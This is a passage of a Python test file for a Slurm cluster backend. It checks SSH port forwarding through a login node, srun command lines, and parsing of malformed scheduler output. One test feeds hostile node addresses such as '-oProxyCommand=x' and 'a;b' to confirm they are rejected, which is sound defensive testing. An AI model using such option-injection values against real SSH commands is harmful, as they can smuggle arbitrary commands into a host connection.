        ({"ssh": "ssh://me@x:2222"}, False, ("-p", "2222", "-L", "127.0.0.1:8888:10.0.0.7:80", "--", "me@x"), None),
        ({"ssh": "me@x"}, True, ("-J", "me@x", "-L", "127.0.0.1:8888:127.0.0.1:80", "--", "n2"), "127.0.0.1"),
        ({}, False, ("-L", "127.0.0.1:8888:127.0.0.1:80", "--", "n2"), "127.0.0.1"),
    ],
)
def test_a_nodes_port_is_reached_through_the_login_node(
    settings: dict[str, str], node_ssh: bool, end: tuple[str, ...], address: str | None
) -> None:
    node = Completed(0, "NodeName=n2 Arch=x86_64 NodeAddr=10.0.0.7 NodeHostName=n2\n", "")
    process = ScriptedProcess({"squeue": Completed(0, squeue_line(NodeList="n[1-2]"), ""), "scontrol": node})
    backend, ref = make_backend(process, **settings), JobRef("a", "17", "/a")
    forward = PortForward(8888, 80, 1, node_ssh)
    argv = backend.forward_argv(ref, forward)
    assert argv[0] == "ssh" and tuple(argv)[-len(end) :] == end
    assert address is None or backend.program_address(ref, forward) == address
    beside = backend.python_beside(ref, 1, "x y")
    words = shlex.split(beside[-1]) if settings else beside
    assert list(words) == [
        "srun",
        *["--overlap", "--jobid", "17", "-w", "n2", "-N1", "-n1", "python3", "-I", "-c"],
        "x y",
    ]


@pytest.mark.parametrize("odd", ["NodeAddr=-oProxyCommand=x", "NodeAddr=a:b:c%d", "NodeAddr=a;b"])
def test_a_cluster_cannot_add_an_option_by_an_address(odd: str) -> None:
    answers: Answers = {"squeue": Completed(0, squeue_line(NodeList="n1"), "")}
    answers["scontrol"] = Completed(0, f"{odd}\n", "")
    with pytest.raises(UsageError, match="is not a host name"):
        make_backend(ScriptedProcess(answers), ssh="me@x").forward_argv(JobRef("a", "17", "/a"), PortForward(1, 2))


@pytest.mark.parametrize("odd", ["x", "-1", "1.5", "9" * 5000, "²", "0x10"])
def test_invalid_numbers_do_not_stop_a_query(odd: str) -> None:
    jobs = slurm_replies.read_sacct(f"17|FAILED|{odd}:{odd}|0001-01-01T00:00:00|{odd}|n1|name\n")
    assert slurm_replies.as_run_info("a", jobs["17"]).state is State.FAILED
    line = squeue_line(
        RestartCnt=odd[:12], exit_code=odd[:12], NumNodes=odd[:12], **{"tres-per-node": f"gpu:{odd[:30]}"}
    )
    assert slurm_replies.read_squeue(line) and slurm_replies.read_tasks(line)
